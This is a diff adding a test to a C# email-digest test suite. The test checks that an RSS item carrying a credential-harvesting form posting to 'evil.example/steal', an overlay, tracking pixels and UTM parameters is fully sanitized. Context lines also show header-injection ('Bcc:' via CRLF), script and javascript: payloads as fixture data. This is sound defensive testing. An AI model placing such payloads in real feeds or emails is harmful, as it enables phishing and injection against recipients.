@@ -22,6 +22,8 @@ public sealed class DigestDeliveryTests
           <description>Consolidation durvalumab in stage III non-small cell lung cancer.</description></item>
         <item><guid>trial</guid><title>CAR-T cells for relapsed lymphoma (NCT05000001)</title><link>https://clinicaltrials.gov/study/NCT05000001</link><pubDate>{NOW}</pubDate>
           <description>Phase 2 study. Recruiting - verified November 2026</description></item>
+        <item><guid>tracker</guid><title>Cemiplimab in cutaneous squamous cell carcinoma</title><link>https://journal.example/cscc?utm_source=rss&amp;utm_medium=feed&amp;id=7</link><pubDate>{NOW}</pubDate>
+          <description><![CDATA[<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form><div style="position:fixed;top:0;background:url(https://tracker.example/t.gif)">Overlay</div><img src="https://tracker.example/pixel.gif?utm_source=x" width="1" height="1"><a href="https://journal.example/full?utm_campaign=x&fbclid=y">full text</a> for skin cancer]]></description></item>
         <item><guid>old</guid><title>Nivolumab in melanoma: 2015 results</title><link>https://journal.example/old</link><pubDate>Mon, 05 Jan 2015 10:00:00 +0000</pubDate>
           <description>An old result that a newly added source brings along.</description></item>
         <item><guid>evil</guid><title>New trial &amp; update&#13;&#10;Bcc: victim@evil.example &lt;script&gt;alert(1)&lt;/script&gt; melanoma immunotherapy</title><link>javascript:alert(1)</link><pubDate>{NOW}</pubDate>
@@ -129,6 +131,26 @@ public sealed class DigestDeliveryTests
         Assert.DoesNotContain("<img", message.TextBody, StringComparison.Ordinal);
         Assert.Empty(message.Bcc);
         Assert.Equal("skin@clinic.example", message.To.Mailboxes.Single().Address);
+    }
+
+    [PostgresFact]
+    public async Task Forms_styles_pixels_and_trackers_never_reach_an_email()
+    {
+        await using var smtp = await TestSmtpServer.StartAsync();
+        var (db, _) = await SeedAsync(smtp);
+        await using var _db = db;
+        await SubscribeAsync(db, "skin@clinic.example", Audiences.Clinician, "SKIN");
+
+        await db.Get<DigestDelivery>().RunAsync(null, CancellationToken.None);
+
+        var message = Assert.Single(smtp.Received);
+        Assert.Contains("Cemiplimab in cutaneous squamous cell carcinoma", message.HtmlBody, StringComparison.Ordinal);
+        Assert.Contains("href=\"https://journal.example/cscc?id=7\"", message.HtmlBody, StringComparison.Ordinal);
+        foreach (var banned in new[] { "<form", "<input", "<button", "position:fixed", "url(", "<img", "utm_", "fbclid", "tracker.example" })
+        {
+            Assert.DoesNotContain(banned, message.HtmlBody, StringComparison.OrdinalIgnoreCase);
+            Assert.DoesNotContain(banned, message.TextBody, StringComparison.OrdinalIgnoreCase);
+        }
     }
 
     [Theory]
